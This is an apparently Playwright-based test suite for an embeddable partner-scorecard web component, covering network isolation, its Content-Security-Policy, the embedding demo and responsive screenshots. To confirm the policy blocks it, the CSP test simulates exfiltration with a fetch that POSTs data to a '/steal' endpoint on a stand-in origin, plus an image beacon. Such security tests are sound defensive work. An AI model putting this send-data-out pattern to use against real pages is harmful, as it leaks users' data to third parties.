// What leaves the browser (nothing after the page's own files), the embedding demo, and
// screenshots at desktop and phone width.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import http from "node:http";
import path from "node:path";
import { AS_OF, artifacts, field, firstScore, open, setup } from "./helpers.mjs";

let env;
before(async () => {
  env = await setup();
});
after(async () => {
  await env?.close();
});


test("no request after the page's own files have loaded, and none ever to another origin", async () => {
  const context = await env.browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true });
  const requests = [];
  let loaded = false;
  context.on("request", (r) => requests.push({ url: r.url(), afterLoad: loaded }));
  const page = await context.newPage();
  await page.goto(`${env.url}?as_of=${AS_OF}`);
  await firstScore(page);
  await page.waitForLoadState("networkidle");
  loaded = true;
  const atLoad = requests.map((r) => new URL(r.url).pathname);
  assert.ok(atLoad.includes("/pkg/partner_scorecard_bg.wasm"), atLoad.join(" "));

  // Use everything on the page: every program, every kind of field, tabs, export, import,
  // link, draft, print view, forget.
  const card = page.locator("partner-scorecard");
  await field(card, "Partner agreement signed").check();
  await field(card, "Certified engineers").fill("4");
  await card.getByRole("button", { name: "Add certification" }).click();
  await card.locator("li.cert").getByLabel("Expires").fill("2026-12-20");
  await page.check("#keep-draft");
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#export")]);
  await page.setInputFiles("#import-file", await download.path());
  await page.click("#copy-link");
  await page.emulateMedia({ media: "print" });
  await page.emulateMedia({ media: "screen" });
  for (const program of ["multi-track", "capability-100", "classic-reseller"]) {
    await page.selectOption("#program-select", program);
    await field(card, "Partner name").fill(`Acme ${program}`);
  }
  await page.selectOption("#program-select", "multi-track");
  await card.getByRole("tab").nth(2).click();
  await field(card, "Region").selectOption("mature");
  await page.click("#forget");
  await page.waitForTimeout(300);

  const network = requests.filter((r) => /^https?:/.test(r.url));
  assert.deepEqual(network.filter((r) => r.afterLoad).map((r) => r.url), []);
  const origin = new URL(env.url).origin;
  assert.deepEqual(network.filter((r) => new URL(r.url).origin !== origin).map((r) => r.url), []);
  // Anything else is in-memory (the exported file's blob: URL).
  assert.deepEqual(requests.filter((r) => !/^(https?|blob|data):/.test(r.url)).map((r) => r.url), []);
  await context.close();
});

test("the Content-Security-Policy stops connections to other origins, even from the page's own script", async () => {
  let hits = 0;
  const other = http.createServer((req, res) => {
    hits += 1;
    res.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "application/json" }).end("{}");
  });
  await new Promise((r) => other.listen(0, "127.0.0.1", r));
  const otherUrl = `http://127.0.0.1:${other.address().port}`;
  try {
    // A program link pointing elsewhere is refused before any request.
    const { page, context } = await open(env, `?as_of=${AS_OF}&program=${encodeURIComponent(`${otherUrl}/program.json`)}`);
    assert.match(await page.locator("#page-status").textContent(), /Only program files from this site/);
    const outcome = await page.evaluate(async (url) => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
      let fetched;
      try {
        await fetch(`${url}/steal`, { method: "POST", body: "profile" });
        fetched = "sent";
      } catch {
        fetched = "blocked";
      }
      const img = new Image();
      img.src = `${url}/pixel.png`;
      await new Promise((r) => { img.onerror = r; img.onload = r; });
      await new Promise((r) => setTimeout(r, 100));
      return { fetched, violations };
    }, otherUrl);
    assert.equal(outcome.fetched, "blocked");
    // Reported once per policy: the page's <meta> and the server's header say the same.
    assert.deepEqual([...new Set(outcome.violations)].sort(), ["connect-src", "img-src"]);
    const meta = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    assert.match(meta, /default-src 'none'/);
    assert.match(meta, /connect-src 'self'(;|$)/);
    assert.equal(hits, 0);
    await context.close();
  } finally {
    other.close();
  }
});

test("embedding demo: one script tag, themed, prefilled by the host, an event with every result", async () => {
  const { page, card, context, errors } = await open(env, "embed.html");
  assert.equal(await page.locator('script[src="partner-scorecard.mjs"]').count(), 1);
  // Prefilled by the host: agreement signed and 12 years in business -> Registered.
  assert.equal(await field(card, "Partner agreement signed").isChecked(), true);
  assert.equal(await field(card, "Years in business (years)").inputValue(), "12");
  assert.equal(await field(card, "Partner name").inputValue(), "Contoso GmbH");
  await page.locator("#portal-banner", { hasText: "Registered" }).waitFor();
  const before = Number(await page.locator("#result-count").textContent());
  assert.ok(before >= 1);

  await page.evaluate(() => {
    window.results = [];
    document.getElementById("embedded").addEventListener("scorecard-result", (e) => window.results.push(e.detail.evaluation.tracks[0].total));
  });
  await field(card, "Certified engineers").fill("5");
  assert.deepEqual(await page.evaluate(() => window.results), [15]);
  assert.equal(Number(await page.locator("#result-count").textContent()), before + 1);

  // The host's custom properties reach inside: the Registered badge uses --ps-tier-1.
  assert.equal(await card.locator("[data-testid=tier]").evaluate((el) => getComputedStyle(el).backgroundColor), "rgb(107, 92, 75)");
  assert.equal(await card.locator("input").first().evaluate((el) => getComputedStyle(el).fontFamily), '"Trebuchet MS", "DejaVu Sans", sans-serif');

  // Prefill as a property: applies to fields the partner has not filled in.
  await page.evaluate(() => {
    document.getElementById("embedded").prefill = { values: { joint_campaigns: 3, certified_engineers: 1 } };
  });
  assert.equal(await field(card, "Joint campaigns").inputValue(), "3");
  assert.equal(await field(card, "Certified engineers").inputValue(), "5");
  assert.deepEqual(await page.evaluate(() => window.results), [15, 18]);
  assert.deepEqual(errors, []);
  await context.close();
});

test("screenshots at desktop and phone width, readable without sideways scrolling", async () => {
  const shots = [];
  for (const width of [1280, 375]) {
    const { page, card, context } = await open(env, `?as_of=${AS_OF}`, { viewport: { width, height: 900 } });
    await page.selectOption("#program-select", "multi-track");
    await field(card, "Partner name").fill("Contoso GmbH");
    await field(card, "Resale revenue (EUR)").fill("800000");
    await field(card, "New customers").fill("4");
    await field(card, "Customer satisfaction (%)").fill("82");
    await field(card, "Renewal rate (%)").fill("88");
    await field(card, "Market alignment").selectOption("high");
    await card.getByRole("button", { name: "Add certification" }).click();
    await card.locator("li.cert").last().getByLabel("Kind").selectOption("technical");
    await card.locator("li.cert").last().getByLabel("Certification", { exact: true }).fill("Cloud Architect");
    await card.locator("li.cert").last().getByLabel("Expires").fill("2026-12-31");
    await card.getByRole("button", { name: "Add certification" }).click();
    await card.locator("li.cert").last().getByLabel("Kind").selectOption("sales");
    await field(card, "Customer satisfaction (%)").fill("820");
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), width, "no horizontal scrolling");
    await page.evaluate(() => window.scrollTo(0, 0));
    const name = path.join(artifacts, `page-${width === 375 ? "phone-375" : "desktop-1280"}.png`);
    await page.screenshot({ path: name, fullPage: true });
    shots.push(name);
    if (width === 375) {
      await card.locator(".results").scrollIntoViewIfNeeded();
      const results = path.join(artifacts, "page-phone-375-results.png");
      await card.locator(".results").screenshot({ path: results });
      shots.push(results);
    } else {
      await page.emulateMedia({ media: "print" });
      const print = path.join(artifacts, "page-print.png");
      await page.screenshot({ path: print, fullPage: true });
      shots.push(print);
    }
    await context.close();

    const embed = await open(env, "embed.html", { viewport: { width, height: 900 } });
    assert.equal(await embed.page.evaluate(() => document.documentElement.scrollWidth), width, "no horizontal scrolling");
    const embedName = path.join(artifacts, `embed-${width === 375 ? "phone-375" : "desktop-1280"}.png`);
    await embed.page.screenshot({ path: embedName, fullPage: true });
    shots.push(embedName);
    await embed.context.close();
  }
  console.log(`# screenshots: ${shots.map((s) => path.relative(process.cwd(), s)).join(", ")}`);
});
